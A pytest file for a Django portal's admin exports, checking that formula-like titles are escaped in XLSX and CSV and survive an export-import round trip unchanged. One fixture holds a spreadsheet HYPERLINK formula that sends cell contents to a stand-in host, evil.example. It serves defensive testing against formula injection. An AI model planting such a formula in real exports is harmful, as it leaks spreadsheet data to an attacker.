"""Admin exports never carry a live formula: in XLSX a formula-like text is a text cell with exactly its text, in
CSV it is quoted, and an import of the CSV takes the quote off again, so an export-import round trip changes
nothing. A control character stored before the portal refused them does not break an XLSX export."""

import csv
import io

import openpyxl
import pytest

from commitments.models import Commitment, Milestone
from tests.factories import MilestoneFactory

from .admin_helpers import admin_export, import_confirm, import_preview, state

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver detalle")'
FORMULA_LIKE = [HYPERLINK, "+593 99 123 4567", "-5 % de avance", "@SUM(A1:A9)", "'=ya citado"]


@pytest.fixture
def milestones(commitment):
    return [
        MilestoneFactory(commitment=commitment, order=order, title_es=title, title_qu=f"Hito {order}")
        for order, title in enumerate(FORMULA_LIKE, 1)
    ]


def xlsx_cells(content: bytes, column: str) -> dict:
    """The cells of a column of an exported XLSX, as openpyxl reads them (not read-only: it keeps data types)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headers = [cell.value for cell in sheet[1]]
    index = headers.index(column)
    return {row[index].value: row[index] for row in sheet.iter_rows(min_row=2)}


def csv_column(content: bytes, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))]


def test_a_formula_is_exported_to_xlsx_as_a_text_cell_with_its_exact_text(planner_client, milestones):
    response = admin_export(planner_client, "milestone", "xlsx")

    cells = xlsx_cells(response.content, "titulo_es")
    assert set(cells) == set(FORMULA_LIKE)
    assert {cells[title].data_type for title in FORMULA_LIKE} == {"s"}
    assert cells[HYPERLINK].quotePrefix  # Excel keeps it text even when someone edits the cell


def test_a_formula_is_exported_to_csv_quoted(planner_client, milestones):
    response = admin_export(planner_client, "milestone", "csv")

    assert sorted(csv_column(response.content, "titulo_es")) == sorted(f"'{title}" for title in FORMULA_LIKE)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_commitment_title_is_escaped_in_every_export_too(planner_client, commitment, fmt):
    Commitment.objects.filter(pk=commitment.pk).update(title_es=HYPERLINK)

    response = admin_export(planner_client, "commitment", fmt)

    if fmt == "xlsx":
        assert xlsx_cells(response.content, "titulo_es")[HYPERLINK].data_type == "s"
    else:
        assert csv_column(response.content, "titulo_es") == [f"'{HYPERLINK}"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_import_round_trip_of_formula_like_text_changes_nothing(planner_client, milestones, fmt):
    exported = admin_export(planner_client, "milestone", fmt).content
    before = state()

    preview = import_preview(planner_client, "milestone", exported, f"hitos.{fmt}", fmt)
    assert [row.import_type for row in preview.context["result"].valid_rows()] == ["skip"] * len(FORMULA_LIKE)
    import_confirm(planner_client, "milestone", preview)

    assert state() == before


@pytest.mark.parametrize("model", ["milestone", "commitment"])
def test_a_stored_control_character_does_not_break_the_xlsx_export(planner_client, commitment, model):
    """Rows stored before control characters were refused (update() skips the model's save)."""
    milestone = MilestoneFactory(commitment=commitment, order=1)
    Milestone.objects.filter(pk=milestone.pk).update(title_es="Hito\x01 con\x1b control")
    Commitment.objects.filter(pk=commitment.pk).update(title_es="Compromiso\x01 con control")

    response = admin_export(planner_client, model, "xlsx")

    assert response.status_code == 200
    expected = "Hito con control" if model == "milestone" else "Compromiso con control"
    assert expected in xlsx_cells(response.content, "titulo_es")
